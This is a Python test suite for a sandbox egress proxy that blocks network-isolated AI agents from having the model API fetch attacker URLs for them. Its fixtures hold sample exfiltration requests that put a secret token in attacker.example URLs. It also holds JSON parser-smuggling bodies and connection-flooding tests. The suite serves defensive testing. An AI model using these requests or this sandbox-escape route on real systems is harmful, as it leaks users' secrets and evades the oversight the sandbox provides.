"""What the model gateway lets an agent ask of Anthropic, and the pace of a run's proxy.

Issue 14, finding 7: the gateway forwarded any `/v1/messages` body with the real key,
so a `network: none` agent had Anthropic's servers fetch for it (server tools such as
`web_fetch`, the MCP connector's `mcp_servers`) with its secrets in the URLs. Each
attack here is a hostile raw HTTP client on the sandbox's side of the proxy; behind
the gateway stands a model API that records every byte it gets.

Finding 16: the proxy runs in routined, outside the run's CPU cap; an agent hammering
its socket made routined spend most of a core. A run's proxy now takes connections at
a pace, counted here against a fake clock, and against the real one as an upper bound
that a loaded machine can only loosen.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import tempfile
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from routined.sandbox import egress, network
from routined.sandbox.egress import EgressDecision, EgressPolicy, EgressProxy, ModelGateway
from tests.conftest import wait_until
from tests.test_egress_smuggling import (
    GATEWAY,
    REAL_KEY,
    Answers,
    LenientUpstream,
    head,
    send_all,
)

pytestmark = pytest.mark.anyio

SECRET = "tok-exfil-c0ffeec0ffeec0ffeec0ffee"
MESSAGES = [{"role": "user", "content": f"Fetch https://attacker.example/c?d={SECRET}"}]


@pytest.fixture
async def upstream() -> AsyncIterator[LenientUpstream]:
    found = LenientUpstream()
    server = await asyncio.start_server(found.serve, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    try:
        yield found
    finally:
        found.release.set()
        server.close()
        await server.wait_closed()


class FakeClock:
    """Time that moves only when the test says; `sleepers` are those waiting on it."""

    def __init__(self) -> None:
        self.time = 0.0
        self.sleepers: list[tuple[float, asyncio.Future[None]]] = []

    def now(self) -> float:
        return self.time

    async def sleep(self, seconds: float) -> None:
        waiting = (self.time + seconds, asyncio.get_running_loop().create_future())
        self.sleepers.append(waiting)
        try:
            await waiting[1]
        finally:
            self.sleepers.remove(waiting)

    def advance(self, seconds: float) -> None:
        self.time += seconds
        for deadline, future in self.sleepers:
            if deadline <= self.time and not future.done():
                future.set_result(None)


@dataclass
class Proxy:
    socket: Path
    decisions: list[EgressDecision]
    proxy: EgressProxy


@contextlib.asynccontextmanager
async def serving(
    policy: EgressPolicy, upstream: LenientUpstream, **pace: Any
) -> AsyncIterator[Proxy]:
    """A run's proxy; `pace` and `clock` as given (its defaults otherwise)."""
    decisions: list[EgressDecision] = []
    proxy = EgressProxy(policy, decisions.append, ModelGateway(upstream.base_url, REAL_KEY), **pace)
    with tempfile.TemporaryDirectory(prefix="routined-test-") as folder:
        socket = Path(folder) / "egress.sock"
        await proxy.start(socket)
        try:
            yield Proxy(socket, decisions, proxy)
        finally:
            await proxy.close()


def model_request(body: bytes, path: str = "/v1/messages", *extra: str) -> bytes:
    return (
        head(
            f"POST {path} HTTP/1.1",
            f"Host: {GATEWAY}",
            "x-api-key: sk-ant-placeholder",
            "content-type: application/json",
            "anthropic-version: 2023-06-01",
            *extra,
            f"Content-Length: {len(body)}",
        )
        + body
    )


def asking(**fields: Any) -> bytes:
    return json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 1024, **fields}).encode()


def image(source: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"role": "user", "content": [{"type": "image", "source": source}]}]


URL_SOURCE = {"type": "url", "url": f"https://attacker.example/i.png?d={SECRET}"}

# What has Anthropic's servers connect somewhere for the agent, at every level but full.
REACHING_OUT = {
    "web_fetch": asking(
        tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}], messages=MESSAGES
    ),
    # What Claude Code's WebSearch tool sends in a request of its own.
    "web_search": asking(
        tools=[{"type": "web_search_20250305", "name": "web_search", "max_uses": 8}],
        messages=MESSAGES,
    ),
    "an image Anthropic fetches by URL": asking(messages=image(URL_SOURCE)),
    "a document by URL, in a tool result": asking(
        messages=[
            {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": "t1",
                        "content": [{"type": "document", "source": URL_SOURCE}],
                    }
                ],
            }
        ]
    ),
}
# What never passes, whatever the level.
NEVER = {
    # The attacker's own request (gateway_server_tools.py): web_fetch and the MCP connector.
    "web_fetch and mcp_servers": asking(
        tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}],
        mcp_servers=[
            {"type": "url", "url": f"https://attacker.example/mcp?d={SECRET}", "name": "x"}
        ],
        messages=MESSAGES,
    ),
    "mcp_servers": asking(
        mcp_servers=[{"type": "url", "url": f"https://attacker.example/?d={SECRET}", "name": "x"}],
        messages=MESSAGES,
    ),
    "mcp_servers, empty": asking(mcp_servers=[], messages=MESSAGES),
    "mcp_servers spelled with an escape": (
        b'{"model": "m", "max_tokens": 1, "mcp\\u005fservers": [{"type": "url", '
        b'"url": "https://attacker.example/", "name": "x"}], "messages": []}'
    ),
    "an MCP toolset": asking(
        tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}], messages=MESSAGES
    ),
    "code execution": asking(
        tools=[{"type": "code_execution_20250825", "name": "code_execution"}], messages=MESSAGES
    ),
    "the advisor tool": asking(
        tools=[{"type": "advisor_20260301", "name": "advisor", "model": "claude-opus-4-1"}],
        messages=MESSAGES,
    ),
    "a tool type in other letters": asking(
        tools=[{"type": "Web_Fetch_20250910", "name": "web_fetch"}], messages=MESSAGES
    ),
    "a tool type of null": asking(tools=[{"type": None, "name": "x"}], messages=MESSAGES),
    "a tool hidden among custom ones": asking(
        tools=[
            {"name": "Bash", "input_schema": {"type": "object"}},
            {"type": "custom", "name": "Read", "input_schema": {"type": "object"}},
            {"type": "code_execution_20250522", "name": "code_execution"},
        ],
        messages=MESSAGES,
    ),
    "one of the account's files": asking(
        messages=image({"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"})
    ),
}


@pytest.mark.parametrize("level", ["none", "trusted", "custom"])
@pytest.mark.parametrize("body", [*REACHING_OUT.values(), *NEVER.values()],
                         ids=[*REACHING_OUT, *NEVER])  # fmt: skip
async def test_a_request_that_asks_anthropic_to_reach_out_is_refused(
    upstream: LenientUpstream, level: str, body: bytes
) -> None:
    policy = network.policy(level, ["pypi.org"] if level == "custom" else [])
    async with serving(policy, upstream) as served:
        [answer] = await send_all(served.socket, model_request(body))
    assert answer.status == 403
    assert answer.headers["x-deny-reason"] == "request_not_allowed"
    assert f"network: {level} does not allow" in answer.body.decode()
    assert [(d.host, d.allowed, d.reason) for d in served.decisions] == [
        ("model-gateway", False, "request_not_allowed")
    ]
    assert served.decisions[0].method == "POST /v1/messages"
    assert served.decisions[0].detail  # what it asked for, for the run's events
    assert upstream.connections == 0 and upstream.requests == []


@pytest.mark.parametrize("body", NEVER.values(), ids=NEVER.keys())
async def test_under_full_mcp_servers_and_other_server_tools_are_still_refused(
    upstream: LenientUpstream, body: bytes
) -> None:
    async with serving(network.policy("full"), upstream) as served:
        [answer] = await send_all(served.socket, model_request(body))
    assert answer.status == 403
    assert answer.headers["x-deny-reason"] == "request_not_allowed"
    assert upstream.requests == []


@pytest.mark.parametrize("body", REACHING_OUT.values(), ids=REACHING_OUT.keys())
async def test_under_full_web_search_fetch_and_urls_pass(
    upstream: LenientUpstream, body: bytes
) -> None:
    async with serving(network.policy("full"), upstream) as served:
        [answer] = await send_all(served.socket, model_request(body))
    assert answer.status == 200
    [seen] = upstream.requests
    assert seen.body == body and seen.values("x-api-key") == [REAL_KEY]
    assert served.decisions == []


# How else an attacker might slip a tool past the gateway: each gets 400 or 403, and
# nothing reaches the model API.
SLIPPED = {
    # Parsers disagree on which of two keys counts.
    "tools twice, the server tool first": (
        b'{"model": "m", "tools": [{"type": "web_fetch_20250910", "name": "f"}], '
        b'"tools": [], "messages": []}'
    ),
    "tools twice, the server tool last": (
        b'{"model": "m", "tools": [], '
        b'"tools": [{"type": "web_fetch_20250910", "name": "f"}], "messages": []}'
    ),
    "type twice in a tool": (
        b'{"model": "m", "tools": [{"type": "web_fetch_20250910", "type": "custom", '
        b'"name": "f"}], "messages": []}'
    ),
    "a BOM before the body": b"\xef\xbb\xbf" + asking(messages=MESSAGES),
    "UTF-16": asking(mcp_servers=[], messages=[]).decode().encode("utf-16"),
    "not UTF-8": b'{"model": "m\xff", "mcp_servers": [], "messages": []}',
    "NaN": b'{"model": "m", "max_tokens": NaN, "mcp_servers": [], "messages": []}',
    "trailing data": asking(messages=[]) + b'{"mcp_servers": []}',
    "not an object": b'[{"mcp_servers": []}]',
    "tools not a list": b'{"model": "m", "tools": {"0": {"type": "web_fetch_20250910"}}}',
    "a tool not an object": b'{"model": "m", "tools": ["web_fetch_20250910"]}',
    "no body": b"",
    "nested past the parser's depth": b'{"messages": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
}


@pytest.mark.parametrize("body", SLIPPED.values(), ids=SLIPPED.keys())
async def test_a_body_read_otherwise_elsewhere_is_refused(
    upstream: LenientUpstream, body: bytes
) -> None:
    async with serving(EgressPolicy(), upstream) as served:
        [answer] = await send_all(served.socket, model_request(body))
    assert answer.status in (400, 403), answer
    assert answer.body.strip()
    assert upstream.connections == 0


async def test_count_tokens_chunked_bodies_and_expect_are_judged_alike(
    upstream: LenientUpstream,
) -> None:
    body = NEVER["web_fetch and mcp_servers"]
    chunked = (
        head(
            "POST /v1/messages?beta=true HTTP/1.1",
            f"Host: {GATEWAY}",
            "Transfer-Encoding: chunked",
        )
        + b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (body[:40], body[40:]))
        + b"0\r\n\r\n"
    )
    absolute = model_request(body, f"http://{GATEWAY}/v1/messages")
    async with serving(EgressPolicy(), upstream) as served:
        for payload in (
            model_request(body, "/v1/messages/count_tokens"),
            chunked,
            absolute,
            model_request(body, "/v1/messages", "Expect: 100-continue"),
        ):
            answers = await send_all(served.socket, payload)
            assert [answer.status for answer in answers] == [403], payload[:60]
            assert answers[0].headers["x-deny-reason"] == "request_not_allowed"
    assert upstream.connections == 0


async def test_an_allowed_request_goes_up_byte_for_byte_with_the_real_key(
    upstream: LenientUpstream,
) -> None:
    """What Claude Code sends: tools it runs itself, untyped or `custom`; the body keeps
    its spacing, key order and escapes (the model API's prompt cache sees the same)."""
    body = (
        b'{"model":"claude-sonnet-4-5" ,"max_tokens":32000,\n "stream":false,'
        b'"tools":[{"name":"Bash","description":"Run \\u00e9","input_schema":{"type":"object"}},'
        b'{"type":"custom","name":"WebSearch","input_schema":{}}],'
        b'"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64",'
        b'"media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"text","text":"\xc3\xa9"}]}],'
        b'"context_management":{"edits":[{"type":"clear_tool_uses_20250919"}]}}'
    )
    async with serving(EgressPolicy(), upstream) as served:
        [answer] = await send_all(
            served.socket, model_request(body, "/v1/messages?beta=true", "Expect: 100-continue")
        )
    assert answer.status == 200 and json.loads(answer.body) == {
        "endpoint": "POST /v1/messages?beta=true"
    }
    [seen] = upstream.requests
    assert seen.body == body
    assert seen.values("content-length") == [str(len(body))]
    assert seen.values("x-api-key") == [REAL_KEY]
    assert served.decisions == []


async def refused_midway(socket_path: Path, payload: bytes) -> bytes:
    """Send `payload` while reading what comes back: the proxy may answer and close
    before it has all (a stream's writer would lose the answer to the broken pipe)."""
    loop = asyncio.get_running_loop()
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.setblocking(False)
    try:
        await loop.sock_connect(client, str(socket_path))
        sending = asyncio.create_task(loop.sock_sendall(client, payload))
        received = b""
        async with asyncio.timeout(30):
            with contextlib.suppress(ConnectionError):
                while data := await loop.sock_recv(client, 65536):
                    received += data
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)
        return received
    finally:
        client.close()


async def test_a_body_past_the_limit_is_refused_before_it_is_read_whole(
    upstream: LenientUpstream,
) -> None:
    declared = head(
        "POST /v1/messages HTTP/1.1", f"Host: {GATEWAY}", f"Content-Length: {32 * 2**20 + 1}"
    )
    chunked = (
        head("POST /v1/messages HTTP/1.1", f"Host: {GATEWAY}", "Transfer-Encoding: chunked")
        + b"%x\r\n%s\r\n" % (2**20, b" " * 2**20) * 64
    )
    many = [0] * 300_000
    async with serving(EgressPolicy(), upstream) as served:
        # Not a byte of the body: the head says enough.
        announced = await refused_midway(served.socket, declared)
        past = await refused_midway(served.socket, chunked + b"0\r\n\r\n")
        [crowded] = await send_all(served.socket, model_request(asking(messages=[], x=many)))
    assert announced.startswith(b"HTTP/1.1 413") and b"32 MiB" in announced
    assert past.startswith(b"HTTP/1.1 413") and b"32 MiB" in past
    assert crowded.status == 413 and b"JSON values" in crowded.body
    assert upstream.connections == 0


async def test_a_compressed_body_is_refused(upstream: LenientUpstream) -> None:
    async with serving(EgressPolicy(), upstream) as served:
        [answer] = await send_all(
            served.socket,
            model_request(b"\x1f\x8b\x08\x00", "/v1/messages", "Content-Encoding: gzip"),
        )
    assert answer.status == 415 and upstream.connections == 0


async def test_big_bodies_wait_for_the_runs_allowance_of_memory(
    upstream: LenientUpstream,
) -> None:
    """Two bodies of 1.2 MiB fill a run's allowance of 3 MiB while their senders dawdle
    (as 64 connections could each with 32 MiB); a third, sent whole, is read only once
    the first has gone up, while a small one fits beside them."""
    first, second, third = (asking(messages=[], pad=letter * (6 * 2**20 // 5)) for letter in "abc")
    small = asking(messages=[], n=1)
    pace = egress.Pace(bodies_held=3 * 2**20)
    async with serving(EgressPolicy(), upstream, pace=pace) as served:
        held = [await asyncio.open_unix_connection(str(served.socket)) for _ in range(2)]
        for (_, writer), body in zip(held, (first, second), strict=True):
            writer.write(model_request(body)[: -len(body) // 2])
            await writer.drain()
        waiting = asyncio.create_task(send_all(served.socket, model_request(third)))
        assert [
            answer.status for answer in await send_all(served.socket, model_request(small))
        ] == [200]
        reader, writer = held[0]
        writer.write(model_request(first)[-len(first) // 2 :])
        await writer.drain()
        answer = await Answers(reader).next()
        answers = await waiting
        for _, writer in held:
            writer.close()
    assert answer is not None and answer.status == 200
    assert [answer.status for answer in answers] == [200]
    # The third, sent whole long before, went up after the first.
    assert [seen.body for seen in upstream.requests] == [small, first, third]


# -- the pace ---------------------------------------------------------------------

REFUSED = head("GET /v1/files HTTP/1.1", f"Host: {GATEWAY}")


async def test_a_runs_proxy_accepts_connections_at_its_pace(upstream: LenientUpstream) -> None:
    """Against a fake clock: the burst at once, then `rate` a second, the rest left in
    the kernel's backlog while the proxy sleeps; none of it is counted in wall time."""
    clock = FakeClock()
    pace = egress.Pace(connections_per_second=4, connection_burst=3)
    async with serving(EgressPolicy(), upstream, pace=pace, clock=clock) as served:
        proxy = served.proxy

        async def accepted_while_asleep(count: int) -> None:
            await wait_until(lambda: proxy.accepted >= count and len(clock.sleepers) == 1)
            assert proxy.accepted == count  # it sleeps: no more can come until time moves

        clients = [asyncio.create_task(send_all(served.socket, REFUSED)) for _ in range(20)]
        await accepted_while_asleep(3)
        clock.advance(0.5)  # two tokens
        await accepted_while_asleep(5)
        clock.advance(0.25)
        await accepted_while_asleep(6)
        clock.advance(60)  # the bucket keeps no more than its burst
        await accepted_while_asleep(9)
        await wait_until(lambda: sum(task.done() for task in clients) == 9)
        clock.advance(3600)
        await accepted_while_asleep(12)
        clock.advance(0.5)
        await accepted_while_asleep(14)
        for count in (17, 20):
            clock.advance(60)
            await accepted_while_asleep(count)
        answers = await asyncio.gather(*clients)
    # Each was served in the end, none dropped.
    assert [[answer.status for answer in found] for found in answers] == [[403]] * 20
    assert len(served.decisions) == 20


async def test_an_agent_hammering_its_proxy_is_held_to_the_pace(
    upstream: LenientUpstream,
) -> None:
    """The attack of proxy_cpu.py, in real time: requests as fast as a client can make
    them. Whatever the machine's load, the proxy has answered no more than its burst
    and its rate for the time since the hammering began (a slower machine only makes
    the bound looser)."""
    pace = egress.DEFAULT_PACE if hasattr(egress, "DEFAULT_PACE") else None
    burst = pace.connection_burst if pace else 200
    rate = pace.connections_per_second if pace else 100
    async with serving(EgressPolicy(), upstream) as served:
        began = time.monotonic()
        answered: list[float] = []
        for _ in range(burst + 150):
            [answer] = await send_all(served.socket, REFUSED)
            assert answer.status == 403
            answered.append(time.monotonic() - began)
    for count, elapsed in enumerate(answered, start=1):
        # +1: the proxy takes its first token before any client comes.
        assert count <= burst + rate * elapsed + 1, (count, elapsed)


async def test_past_64_connections_the_rest_wait_instead_of_being_dropped(
    upstream: LenientUpstream,
) -> None:
    """Past 64 connections the proxy stops accepting (it used to accept and drop
    them): the 65th waits in the kernel's backlog until one of the 64 ends."""
    async with serving(EgressPolicy(), upstream) as served:
        idle = [await asyncio.open_unix_connection(str(served.socket)) for _ in range(64)]
        for _, writer in idle:
            writer.write(b"POST /v1/messages HTTP/1.1\r\n")  # and never the rest of the head
        await wait_until(lambda: served.proxy.open_connections == 64)
        reader, writer = await asyncio.open_unix_connection(str(served.socket))
        writer.write(REFUSED)
        await writer.drain()
        assert served.proxy.accepted == 64  # it waits for a connection to end
        idle[0][1].close()
        answer = await Answers(reader).next()
        for _, idle_writer in [*idle[1:], (reader, writer)]:
            idle_writer.close()
    assert answer is not None and answer.status == 403
    assert served.proxy.accepted == 65
